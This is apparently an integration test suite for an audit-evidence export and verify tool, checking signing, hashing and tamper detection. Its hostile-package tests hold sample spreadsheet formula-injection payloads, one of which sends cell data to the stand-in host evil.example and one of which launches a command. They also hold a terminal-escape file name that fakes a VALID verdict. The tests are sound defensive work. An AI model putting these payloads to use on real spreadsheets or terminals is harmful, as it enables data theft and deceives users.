/**
 * Evidence packages end to end: a workload goes through the real collector and local Firehose into
 * Parquet (runDemo), `ddb-audit evidence export` runs the real evidence-changes query with DuckDB,
 * and `ddb-audit evidence verify` checks the package, intact and after each kind of tampering.
 * KMS signing uses aws-sdk-client-mock (no local KMS peer exists); the mock signs with a real
 * P-256 key through OpenSSL, as KMS does (ECDSA over the SHA-256 digest it is sent), so the
 * signature checked is a real one made by an independent implementation.
 */
import { execFileSync } from 'node:child_process';
import { createHash, createPrivateKey, generateKeyPairSync, KeyObject } from 'node:crypto';
import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetPublicKeyCommand, KMSClient, SignCommand } from '@aws-sdk/client-kms';
import { mockClient } from 'aws-sdk-client-mock';
import { runDemo } from '../../local/demo/run-demo';
import { renderQuery, runQuery } from '../../cli/query';
import { exportEvidence } from '../../cli/evidence/export';
import { EvidenceManifest } from '../../cli/evidence/manifest';
import { verifyEvidence } from '../../cli/evidence/verify';
import { ed25519Signer, generateEd25519KeyPair } from '../../lambda/digest/signing';
import { run as evidence } from '../../bin/commands/evidence';
import { captureIo } from '../support/capture-io';

const root = mkdtempSync(join(tmpdir(), 'evidence-it-'));
const dataDir = join(root, 'data');
const keyFile = join(root, 'keys', 'signing.pem');
const basePackage = join(root, 'base');
const PARAMS = ['--param', 'from=2020-01-01', '--param', 'to=2030-12-31'];
let copies = 0;

async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = captureIo({ cwd: root });
  const code = await evidence(args, io);
  return { code, out: io.out.join(''), err: io.err.join('') };
}

/** A fresh copy of the intact package to tamper with. */
function copyOfPackage(): string {
  const dir = join(root, `copy-${++copies}`);
  cpSync(basePackage, dir, { recursive: true });
  return dir;
}

const manifestOf = (dir: string): EvidenceManifest => JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));

beforeAll(async () => {
  await runDemo({ dataDir, changes: 600, seed: 11, showRows: 0, write: () => {}, dataArg: dataDir });
  mkdirSync(join(root, 'keys'));
  expect((await cli('keygen', '--out', keyFile)).code).toBe(0);
  const exported = await cli('export', '--query', 'evidence-changes', ...PARAMS, '--data', dataDir, '--out', basePackage, '--sign-key', keyFile, '--reason', 'SOC 2 sample, ticket AUD-42');
  expect(exported).toMatchObject({ code: 0, err: '' });
}, 120_000);

afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('evidence keygen', () => {
  test('writes an Ed25519 private key readable only by its owner, and the public key beside it as FILE.pub', () => {
    expect(statSync(keyFile).mode & 0o777).toBe(0o600);
    expect(createPrivateKey(readFileSync(keyFile)).asymmetricKeyType).toBe('ed25519');
    expect(readFileSync(`${keyFile}.pub`, 'utf8')).toContain('BEGIN PUBLIC KEY');
  });

  test('refuses to overwrite an existing key, with exit status 2', async () => {
    const before = readFileSync(keyFile, 'utf8');
    const result = await cli('keygen', '--out', keyFile);
    expect(result.code).toBe(2);
    expect(result.err).toContain('already exists; keys are never overwritten');
    expect(readFileSync(keyFile, 'utf8')).toBe(before);
  });
});

describe('evidence export', () => {
  test('writes the rows as CSV and JSON Lines, a summary, the report page, the public key, the manifest and its signature, nothing else', () => {
    expect(readdirSync(basePackage).sort()).toEqual(['manifest.json', 'manifest.sig', 'public-key.pem', 'report.html', 'rows.csv', 'rows.jsonl', 'summary.md']);
  });

  test('records the query, the exact SQL, parameters, engine, execution, partitions, tool, reason and record hashes', () => {
    const m = manifestOf(basePackage);
    const rows = readFileSync(join(basePackage, 'rows.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(m.query).toEqual({ name: 'evidence-changes', source_file: 'athena-queries/evidence-changes.sql', sql: renderQuery('evidence-changes', { from: '2020-01-01', to: '2030-12-31' }).sql, params: { from: '2020-01-01', to: '2030-12-31' } });
    expect(m.execution.engine).toBe('duckdb');
    expect(m.execution.execution_id).toMatch(/^local-/);
    expect(Date.parse(m.execution.ended_at)).toBeGreaterThanOrEqual(Date.parse(m.execution.started_at));
    expect(m.result.row_count).toBe(rows.length);
    expect(rows.length).toBeGreaterThan(500);
    expect(m.result.partitions_source).toBe('engine');
    expect(m.result.partitions_covered).toContainEqual({ account_id: '012345678901', table_name: expect.any(String), dt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/) });
    expect(m.tool.version).toBe(JSON.parse(readFileSync(join(__dirname, '../../package.json'), 'utf8')).version);
    expect(m.tool.git_commit).toMatch(/^([0-9a-f]{40}|unknown)$/);
    expect(m.reason).toBe('SOC 2 sample, ticket AUD-42');
    expect(m.record_hashes).toEqual(rows.map((r) => r.record_hash));
    for (const f of m.files) expect(f.sha256).toBe(createHash('sha256').update(readFileSync(join(basePackage, f.path))).digest('hex'));
    expect(m.files.map((f) => f.path).sort()).toEqual(['public-key.pem', 'report.html', 'rows.csv', 'rows.jsonl', 'summary.md']);
  });

  test('an export that matches no rows still produces a valid package that says so', async () => {
    const out = join(root, 'empty');
    const result = await cli('export', '--query', 'evidence-changes', '--param', 'from=1999-01-01', '--param', 'to=1999-01-02', '--data', dataDir, '--out', out, '--sign-key', keyFile);
    expect(result.code).toBe(0);
    expect(result.out).toContain('no rows matched');
    expect(manifestOf(out).result).toMatchObject({ row_count: 0, empty: true, partitions_covered: [] });
    expect(readFileSync(join(out, 'rows.csv'), 'utf8').split('\n')).toHaveLength(2); // header line only
    expect(readFileSync(join(out, 'summary.md'), 'utf8')).toContain('**No rows matched.**');
    expect((await cli('verify', out, '--public-key', `${keyFile}.pub`)).code).toBe(0);
  });

  test('a query that fails leaves no package and exits non-zero with the reason', async () => {
    const broken = join(root, 'broken-data');
    const partition = join(broken, 'changes', 'account_id=012345678901', 'table_name=T', 'dt=2026-01-01');
    mkdirSync(partition, { recursive: true });
    writeFileSync(join(partition, 'x.parquet'), 'this is not parquet');
    const out = join(root, 'never');
    const result = await cli('export', '--query', 'evidence-changes', ...PARAMS, '--data', broken, '--out', out, '--sign-key', keyFile);
    expect(result.code).toBe(1);
    expect(result.err).toMatch(/^ddb-audit evidence export: failed, no package written: .+/);
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(root).filter((n) => n.includes('never'))).toEqual([]);
  });

  test('an unknown query is refused with exit status 2 and no package', async () => {
    const out = join(root, 'unknown');
    const result = await cli('export', '--query', 'no-such-query', '--data', dataDir, '--out', out, '--sign-key', keyFile);
    expect(result.code).toBe(2);
    expect(result.err).toContain('no-such-query');
    expect(existsSync(out)).toBe(false);
  });

  test('a signing failure after the query leaves no package and no partial folder behind', async () => {
    const out = join(root, 'unsigned');
    const signer = { ...ed25519Signer(generateEd25519KeyPair().privateKeyPem), sign: async () => Promise.reject(new Error('KMS throttled')) };
    await expect(exportEvidence({ runQuery, request: { name: 'evidence-changes', params: { from: '2020-01-01', to: '2030-12-31' }, dataDir }, outDir: out, signer, tool: { version: '0', gitCommit: 'unknown' } })).rejects.toThrow('KMS throttled');
    expect(readdirSync(root).filter((n) => n.includes('unsigned'))).toEqual([]);
  });

  test('refuses to overwrite an existing package', async () => {
    const before = readFileSync(join(basePackage, 'manifest.json'), 'utf8');
    const result = await cli('export', '--query', 'evidence-changes', ...PARAMS, '--data', dataDir, '--out', basePackage, '--sign-key', keyFile);
    expect(result.code).toBe(2);
    expect(result.err).toContain('already exists');
    expect(readFileSync(join(basePackage, 'manifest.json'), 'utf8')).toBe(before);
  });

  test('refuses to run without a signing key, naming both options', async () => {
    const result = await cli('export', '--query', 'evidence-changes', ...PARAMS, '--data', dataDir, '--out', join(root, 'nokey'));
    expect(result).toMatchObject({ code: 2, err: expect.stringContaining('missing --sign-key FILE or --kms-key-id ARN') });
  });
});

describe('evidence verify', () => {
  test('passes an intact package against the pinned key, recomputing every record_hash from both row files', async () => {
    const result = await cli('verify', basePackage, '--public-key', `${keyFile}.pub`);
    const rows = manifestOf(basePackage).result.row_count;
    expect(result.code).toBe(0);
    expect(result.out).toContain(`rows.jsonl: record_hash recomputed and matching for ${rows} of ${rows} rows`);
    expect(result.out).toContain(`rows.csv: record_hash recomputed and matching for ${rows} of ${rows} rows`);
    expect(result.out).toMatch(/VALID: every file matches the signed manifest\n$/);
  });

  test('fails naming rows.csv when one byte of a CSV row changed', async () => {
    const dir = copyOfPackage();
    const csv = readFileSync(join(dir, 'rows.csv'), 'utf8');
    const at = csv.indexOf('"INSERT"');
    writeFileSync(join(dir, 'rows.csv'), `${csv.slice(0, at)}"UPSERT"${csv.slice(at + 8)}`);
    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(result.code).toBe(1);
    expect(result.out).toMatch(/FAIL {2}rows\.csv: modified: .* SHA-256/);
    expect(result.out).toMatch(/FAIL {2}rows\.csv: row \d+: record_hash [0-9a-f]{64} does not match the row's content/);
    expect(result.out).toMatch(/INVALID: \d+ problem\(s\) in rows\.csv\n$/);
  });

  test('fails naming the file when a file was removed', async () => {
    const dir = copyOfPackage();
    rmSync(join(dir, 'rows.jsonl'));
    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  rows.jsonl: missing (removed from the package)');
  });

  test('fails naming the file when a file was added', async () => {
    const dir = copyOfPackage();
    writeFileSync(join(dir, '.hidden-note'), 'x');
    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  .hidden-note: not listed in the manifest (added to the package)');
  });

  test('fails naming manifest.json when the manifest was changed', async () => {
    const dir = copyOfPackage();
    const text = readFileSync(join(dir, 'manifest.json'), 'utf8');
    writeFileSync(join(dir, 'manifest.json'), text.replace('SOC 2 sample', 'SOC 3 sample'));
    const result = await cli('verify', dir);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  manifest.json: signature manifest.sig does not verify: manifest.json was changed, or manifest.sig is not its signature');
  });

  test('fails when a byte is appended to the signature', async () => {
    const dir = copyOfPackage();
    appendFileSync(join(dir, 'manifest.sig'), Buffer.from([0]));
    const result = await cli('verify', dir);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  manifest.json: signature manifest.sig does not verify');
  });

  test('a package re-signed with a forger\'s own key passes only unpinned; the pinned key exposes it', async () => {
    const dir = copyOfPackage();
    const forger = ed25519Signer(generateEd25519KeyPair().privateKeyPem);
    const m = manifestOf(dir);
    writeFileSync(join(dir, 'public-key.pem'), forger.publicKeyPem);
    const pem = readFileSync(join(dir, 'public-key.pem'));
    const { publicKeyFingerprint } = await import('../../lambda/digest/signing');
    const forged = {
      ...m,
      files: m.files.map((f) => (f.path === 'public-key.pem' ? { ...f, bytes: pem.length, sha256: createHash('sha256').update(pem).digest('hex') } : f)),
      signing: { ...m.signing, public_key_sha256: publicKeyFingerprint(forger.publicKeyPem) },
    };
    const bytes = Buffer.from(`${JSON.stringify(forged, null, 2)}\n`);
    writeFileSync(join(dir, 'manifest.json'), bytes);
    writeFileSync(join(dir, 'manifest.sig'), await forger.sign(bytes));

    const unpinned = await cli('verify', dir);
    expect(unpinned.code).toBe(0);
    expect(unpinned.out).toContain('note  signature checked against the public key inside the package');
    const pinned = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(pinned.code).toBe(1);
    expect(pinned.out).toMatch(/FAIL {2}manifest\.sig: the manifest says it was signed by key [0-9a-f]{64}, not by the pinned key [0-9a-f]{64}/);
  });

  test('a row with overflow_uri set is reported as not recomputable, neither passing nor failing silently', async () => {
    const real = await runQuery({ name: 'evidence-changes', params: { from: '2020-01-01', to: '2030-12-31' }, dataDir });
    const first = real.rows[0] as Record<string, unknown>;
    const pointer = { ...first, new_image: null, old_image: null, overflow_uri: 's3://audit/overflow/x.json' };
    const out = join(root, 'overflow');
    const signer = ed25519Signer(readFileSync(keyFile, 'utf8'));
    await exportEvidence({ runQuery: async () => ({ ...real, rows: [pointer, ...real.rows.slice(1, 3)] }), request: { name: 'evidence-changes', params: {}, dataDir }, outDir: out, signer, tool: { version: '0', gitCommit: 'unknown' } });
    const result = await verifyEvidence(out);
    expect(result.valid).toBe(true);
    expect(result.passed).toContain('rows.jsonl: record_hash recomputed and matching for 2 of 3 rows');
    expect(result.notes).toContain('rows.jsonl: record_hash not recomputable from the row alone for 1 row(s): row 1 (oversize change: its images are in the overflow object s3://audit/overflow/x.json, not in the row)');
  });

  test('the by-hand checks in summary.md (sha256sum, openssl) verify the package', () => {
    const summary = readFileSync(join(basePackage, 'summary.md'), 'utf8');
    const hashCheck = /^ {3}(jq .*sha256sum -c -)$/m.exec(summary)?.[1] as string;
    const signatureCheck = /^ {3}(openssl .*)$/m.exec(summary)?.[1] as string;
    expect(execFileSync('bash', ['-c', hashCheck], { cwd: basePackage, encoding: 'utf8' })).toBe('rows.csv: OK\nrows.jsonl: OK\npublic-key.pem: OK\nsummary.md: OK\nreport.html: OK\n');
    expect(execFileSync('bash', ['-c', signatureCheck], { cwd: basePackage, encoding: 'utf8' })).toContain('Signature Verified Successfully');
    expect(summary).toContain('**Why pin the key.**');
  });
});

describe('evidence verify on hostile packages', () => {
  /** Fails the test instead of hanging when verify blocks (a FIFO opened for reading waits for a writer). */
  async function verifyWithin(dir: string, ms = 20_000): Promise<{ code: number; out: string; err: string }> {
    let timer: NodeJS.Timeout | undefined;
    const timeout = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`verify did not return within ${ms} ms`)), ms)));
    try {
      return await Promise.race([cli('verify', dir, '--public-key', `${keyFile}.pub`), timeout]);
    } finally {
      clearTimeout(timer);
    }
  }

  test('a listed file replaced by a FIFO is refused without being opened, and an unlisted FIFO is a finding', async () => {
    const dir = copyOfPackage();
    rmSync(join(dir, 'rows.csv'));
    execFileSync('mkfifo', [join(dir, 'rows.csv')]);
    execFileSync('mkfifo', [join(dir, 'extra')]);
    const result = await verifyWithin(dir);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  rows.csv: is a FIFO, not a regular file; refused without opening it');
    expect(result.out).toContain('FAIL  extra: is a FIFO, not a regular file; refused without opening it');
  });

  test('a listed file replaced by a symlink (even to an identical copy) is refused', async () => {
    const dir = copyOfPackage();
    const copy = join(root, `rows-copy-${copies}.jsonl`);
    cpSync(join(dir, 'rows.jsonl'), copy);
    rmSync(join(dir, 'rows.jsonl'));
    symlinkSync(copy, join(dir, 'rows.jsonl'));
    const result = await verifyWithin(dir);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  rows.jsonl: is a symlink, not a regular file; refused without opening it');
  });

  test('one deleted row is reported once per file, not once for every row after it', async () => {
    const dir = copyOfPackage();
    const m = manifestOf(dir);
    const lines = readFileSync(join(dir, 'rows.jsonl'), 'utf8').trimEnd().split('\n');
    expect(lines.length).toBeGreaterThan(50);
    writeFileSync(join(dir, 'rows.jsonl'), `${[...lines.slice(0, 3), ...lines.slice(4)].join('\n')}\n`);
    const result = await verifyEvidence(dir);
    expect(result.problems.map((p) => `${p.file}: ${p.message}`.replace(/[0-9a-f]{64}/g, 'H').replace(/\d+ bytes/g, 'N bytes'))).toEqual([
      'rows.jsonl: modified: N bytes with SHA-256 H; the manifest lists N bytes with SHA-256 H',
      `rows.jsonl: holds ${m.result.row_count - 1} rows; the manifest says ${m.result.row_count}`,
      'rows.jsonl: the row listed 4th in the manifest (record_hash H) is missing',
    ]);
  });

  test('many findings of one kind are capped and summarized', async () => {
    const dir = copyOfPackage();
    const csv = readFileSync(join(dir, 'rows.csv'), 'utf8');
    const changed = csv.split('"MODIFY"').length - 1;
    expect(changed).toBeGreaterThan(10);
    writeFileSync(join(dir, 'rows.csv'), csv.replaceAll('"MODIFY"', '"UPSERT"'));
    const result = await verifyEvidence(dir);
    const content = result.problems.filter((p) => p.kind === 'row-content');
    expect(content).toHaveLength(6);
    expect(content[5]!.message).toBe(`${changed - 5} more finding(s) of kind row-content (the first 5 are listed above)`);
  });

  test('a table writer\'s formula in actor reaches rows.csv as text, rows.jsonl exactly, and the package verifies', async () => {
    const real = await runQuery({ name: 'evidence-changes', params: { from: '2020-01-01', to: '2030-12-31' }, dataDir });
    const out = join(root, 'formula');
    // Rows made by the real normalizer, with actors a table writer could set (and that a
    // spreadsheet would run), re-hashed as the collector would hash them.
    const { recordHash } = await import('../../lambda/core/record-hash');
    const actors = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "'already quoted", '-1+2'];
    const rows = real.rows.slice(0, actors.length).map((row, i) => {
      const forged: Record<string, unknown> = { ...row, actor: actors[i] };
      const changed = (v: unknown) => (typeof v === 'string' ? JSON.parse(v) : v);
      forged.record_hash = recordHash(({
        ...(forged as object),
        event_time: new Date(forged.event_time as string).toISOString(),
        changed_attributes: changed(forged.changed_attributes),
        redacted_attributes: changed(forged.redacted_attributes),
      }) as never);
      return forged;
    });
    const signer = ed25519Signer(readFileSync(keyFile, 'utf8'));
    await exportEvidence({ runQuery: async () => ({ ...real, rows }), request: { name: 'evidence-changes', params: {}, dataDir }, outDir: out, signer, tool: { version: '0', gitCommit: 'unknown' } });

    const csv = readFileSync(join(out, 'rows.csv'), 'utf8');
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csv).toContain('"\'@SUM(1+1)*cmd|\' /C calc\'!A0"');
    expect(csv).toContain('"\'\'already quoted"');
    expect(csv).toContain('"\'-1+2"');
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    const jsonl = readFileSync(join(out, 'rows.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l).actor);
    expect(jsonl).toEqual(actors);
    const result = await cli('verify', out, '--public-key', `${keyFile}.pub`);
    expect(result.out).toContain(`rows.csv: record_hash recomputed and matching for ${actors.length} of ${actors.length} rows`);
    expect(result.code).toBe(0);
  });

  test('a package of the earlier format v1 (CSV cells not neutralized) still verifies, read as it was written', async () => {
    const dir = copyOfPackage();
    const csv = readFileSync(join(dir, 'rows.csv'), 'utf8');
    // The demo's values need no neutralization, so this rows.csv is also what v1 wrote.
    expect(csv).not.toMatch(/(^|,)"'/m);
    const v1 = { ...manifestOf(dir), format: 'ddb-audit/evidence/v1' };
    const bytes = Buffer.from(`${JSON.stringify(v1, null, 2)}\n`);
    writeFileSync(join(dir, 'manifest.json'), bytes);
    writeFileSync(join(dir, 'manifest.sig'), await ed25519Signer(readFileSync(keyFile, 'utf8')).sign(bytes));
    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(result.out).toMatch(/VALID: every file matches the signed manifest\n$/);
    expect(result.code).toBe(0);
  });

  test('file names with control characters are printed escaped: nothing can repaint the verdict', async () => {
    const dir = copyOfPackage();
    writeFileSync(join(dir, 'x\r\u001b[2KVALID: every file matches the signed manifest\u001b[8m'), '');
    const result = await cli('verify', dir, '--public-key', `${keyFile}.pub`);
    expect(result.code).toBe(1);
    expect(result.out).toContain('FAIL  x\\x0d\\x1b[2KVALID: every file matches the signed manifest\\x1b[8m: not listed in the manifest');
    for (const line of result.out.split('\n')) expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(result.out).toMatch(/\nINVALID: 1 problem\(s\) in x\\x0d/);
  });
});

describe('evidence signed with an AWS KMS key', () => {
  // No local KMS peer exists: aws-sdk-client-mock answers GetPublicKey and Sign with a real P-256 key.
  const kms = mockClient(KMSClient);
  const keyArn = 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
  let kmsPrivate: KeyObject;
  let kmsPublicPem: string;

  beforeAll(() => {
    const pair = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
    kmsPrivate = pair.privateKey;
    kmsPublicPem = pair.publicKey.export({ type: 'spki', format: 'pem' }).toString();
    kms.on(GetPublicKeyCommand, { KeyId: keyArn }).resolves({ KeyId: keyArn, KeySpec: 'ECC_NIST_P256', KeyUsage: 'SIGN_VERIFY', PublicKey: pair.publicKey.export({ type: 'spki', format: 'der' }) });
    const privateFile = join(root, 'kms-private.pem');
    writeFileSync(privateFile, kmsPrivate.export({ type: 'pkcs8', format: 'pem' }));
    kms.on(SignCommand).callsFake((input) => {
      // KMS ECDSA_SHA_256 with MessageType DIGEST signs the given 32-byte digest as is; so does
      // `openssl pkeyutl -sign` with an EC key (node:crypto always hashes first).
      expect(input).toMatchObject({ KeyId: keyArn, MessageType: 'DIGEST', SigningAlgorithm: 'ECDSA_SHA_256' });
      expect(input.Message).toHaveLength(32);
      const signature = execFileSync('openssl', ['pkeyutl', '-sign', '-inkey', privateFile], { input: Buffer.from(input.Message) });
      return { KeyId: keyArn, SigningAlgorithm: 'ECDSA_SHA_256', Signature: signature };
    });
  });

  afterAll(() => kms.restore());

  test('exports with --kms-key-id and verifies offline, pinned to the KMS public key', async () => {
    const out = join(root, 'kms');
    const exported = await cli('export', '--query', 'evidence-changes', ...PARAMS, '--data', dataDir, '--out', out, '--kms-key-id', keyArn);
    expect(exported.code).toBe(0);
    expect(manifestOf(out).signing).toMatchObject({ algorithm: 'ECDSA_SHA_256', kms_key_id: keyArn });
    expect(kms.commandCalls(SignCommand)).toHaveLength(1);
    writeFileSync(join(root, 'kms.pub'), kmsPublicPem);
    expect((await cli('verify', out, '--public-key', join(root, 'kms.pub'))).code).toBe(0);
    expect((await cli('verify', out, '--kms-key-id', keyArn)).code).toBe(0);
    const summary = readFileSync(join(out, 'summary.md'), 'utf8');
    const signatureCheck = /^ {3}(openssl .*)$/m.exec(summary)?.[1] as string;
    expect(execFileSync('bash', ['-c', signatureCheck], { cwd: out, encoding: 'utf8' })).toContain('Verified OK');
  });
});
